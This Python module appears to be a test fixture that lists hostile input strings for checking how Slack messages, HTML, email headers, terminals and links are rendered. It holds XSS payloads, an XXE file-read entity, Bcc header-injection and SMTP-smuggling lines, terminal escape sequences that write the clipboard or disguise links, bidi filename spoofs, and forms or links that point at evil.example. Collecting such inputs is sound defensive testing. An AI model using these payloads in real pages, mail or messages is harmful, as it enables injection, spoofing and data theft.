"""Texts that try to come alive somewhere: in Slack, in mail, in a page, in a terminal."""
# ruff: noqa: E501 - long texts stay on one line

from __future__ import annotations

SLACK = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|x>", "<!subteam^S123|@all>", "<@U12345>", "<@U1|ana>",
    "<#C12345>", "<#C1|general>", "<https://evil.example|https://bank.example>", "<https://evil.example>",
    "<mailto:a@evil.example|a>", "<tel:+123|x>", "<slack://channel?id=C1|x>", "<!date^1^{date}^https://evil.example|x>",
    "@channel @here @everyone", "#general", "*bold* _it_ ~no~ `code` ```block```", "> quote\n> more", "•\n- item\n1. x",
    ":skull: :wave::skin-tone-6:", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "<!chan", "nel>", "<", ">", "&",
    "|", "<|>", "<<!channel>>", "<!\u200bchannel>", "https://evil.example/x", "http://bank.example|evil",
    "www.evil.example/login", "[text](https://evil.example)", "![x](https://evil.example/x.png)",
    "*" * 500, "<" * 500, "&" * 3000, "`" * 40 + "x", "_" * 3 + "x" + "_" * 3, "*a" + "\n" + "b*",
)  # fmt: skip

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>1</script>",
    "<a href='javascript:alert(1)'>x</a>", "<iframe src=//evil.example>", "\"><img src=x onerror=alert(1)>",
    "'><script>1</script>", "</td></tr></table><h1>x</h1>", "<!--", "-->", "<style>*{display:none}</style>",
    "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "<%= 7 %>", "&#60;script&#62;alert(1)&#60;/script&#62;", "<math><mi//xlink:href=",
    "<noscript><p title=\"</noscript><img src=x onerror=1>\">", "<base href=//evil.example>", "<meta http-equiv=refresh>",
    "<form action=//evil.example><input name=p></form>", "\" style=\"position:fixed", "' onmouseover='x",
    "<details open ontoggle=alert(1)>", "<x contenteditable onblur=1>", "<bdo dir=rtl>abc</bdo>", "]]>", "<![CDATA[x",
    "<title></title><script>1</script>", "<textarea>", "<plaintext>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>",
)  # fmt: skip

HEADERS = (
    "x\r\nBcc: evil@evil.example", "x\nBcc: evil@evil.example", "x\rBcc: evil@evil.example", "x\r\n\r\n<h1>body</h1>",
    "x\r\n Bcc: evil@evil.example", "=?utf-8?q?=0D=0ABcc:_evil@evil.example?=", "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
    "=?utf-8?q?a?= =?utf-8?q?b?=", "=?utf-8?q?=3Cb=3E?=", "=?utf-7?q?+AA0ACg-Bcc:x?=", "=?x", "?=", "=?=?=?",
    "=?us-ascii?q?x?= \u0434 =?us-ascii?q?y?=", "\u2028Bcc: x@evil.example", "\u2029Bcc: x", "\x85Bcc: x", "\x0bBcc: x",
    "\x0cBcc: x", "\x1cBcc: x", "%0d%0aBcc: x", "a" * 2000, "\u0434" * 2000, "a b " * 700, ".\r\n.\r\nMAIL FROM:<x>",
    "\r\n.\r\n", "\n.\n", ".", "..", "From x", "\nFrom evil", "x; charset=utf-7", '"quoted" <evil@evil.example>',
    "--===============", "Content-Type: text/html", "\ud800", "\udfff\ud800", "\x00", "\ufffe", "\ufeffx",
)  # fmt: skip

TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x9b31mred", "\x9d0;title\x9c", "\x1bP+q\x1b\\", "\x1bc", "\x07\x07", "back\x08\x08\x08\x08space",
    "over\rwritten", "tab\ttab", "\x7f", "\x0e\x0f", "[bold red]x[/]", "[/]", "[link=https://evil.example]x[/link]",
    "[@click=app.bell]x[/]", "\\[x]", ":skull:", "[blink]", "[/bold]", "\x1b", "\x1b[", "\u0090x",
)  # fmt: skip

DIRECTION = (
    "\u202egpj.exe", "\u202a\u202b\u202c\u202d\u202e", "\u2066\u2067\u2068", "\u2069\u2069\u2069", "\u200e\u200f\u061c",
    "abc\u202eخبر\u202c", "\u2068unclosed خبر", "closed\u2069 خبر", "\u2067\u202e\u2066x", "خبر\u2069\u202e.exe",
    "\u200b\u200c\u200d\u2060\ufeff", "\u180e", "\U000e0041\U000e0042", "e" + "\u0301" * 4000, "\ufff9a\ufffab\ufffb",
)  # fmt: skip

HOSTILE = SLACK + MARKUP + HEADERS + TERMINAL + DIRECTION

LINKS = (
    "javascript:alert(1)", "https://bank.example@evil.example/", "https://evil.example/|https://bank.example>",
    "https://evil.example/><!channel>", 'https://evil.example/"onmouseover="x', "https://evil.example/\r\nBcc: x",
    "https://evil.example/\x1b[31m", "https://evil.example/\u202egpj", "data:text/html,<script>1</script>",
    "https://evil.example/?a=<script>&b='x'", "vbscript:x", "https://evil.example/*_~`", "HTTPS://EVIL.EXAMPLE\\@bank.example",
)  # fmt: skip
